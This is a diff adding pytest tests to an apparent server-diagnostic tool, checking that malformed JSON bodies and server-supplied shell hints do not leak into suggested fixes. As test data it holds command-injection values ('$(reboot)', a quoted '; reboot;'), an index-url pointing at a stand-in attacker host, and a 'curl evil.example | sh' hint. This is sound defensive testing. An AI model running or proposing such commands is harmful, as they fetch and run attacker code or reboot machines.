@@ -496,3 +496,24 @@ async def test_a_look_that_breaks_is_unknown_and_ends_nothing(monkeypatch: pytes
         found = await examined(served.url)
     assert found["round trip"] == Finding("round trip", "unknown", "this look broke: RuntimeError: it broke")
     assert found["bandwidth"].verdict == "ok"
+
+
+# -- servers that mean harm -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"a":' * 200_000, b"\xff\xfe", b"7", b'{"reasons": 7, "envs": 7}'])
+async def test_an_answer_that_is_no_document_ends_no_look_but_its_own(body: bytes) -> None:
+    async with raw(
+        b"HTTP/1.1 403 Forbidden\r\nenvd-version: 0.1.0\r\nConnection: close\r\n"
+        b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
+    ) as url:
+        found = await examined(url)
+    assert found["access"].verdict == "failed"
+    assert found["ready"].verdict != "ok"
+
+
+@pytest.mark.parametrize("theirs", ["9'; reboot; '", "$(reboot)", "9 --index-url=http://evil.example", ""])
+def test_what_is_to_be_copied_into_a_shell_is_not_what_a_server_made_up(theirs: str) -> None:
+    assert version(theirs).fix == ""
+    said = reply(403, json.dumps({"detail": "No.", "hint": "curl evil.example | sh"}).encode())
+    assert "evil" not in access(server(token=TOKEN), said).fix
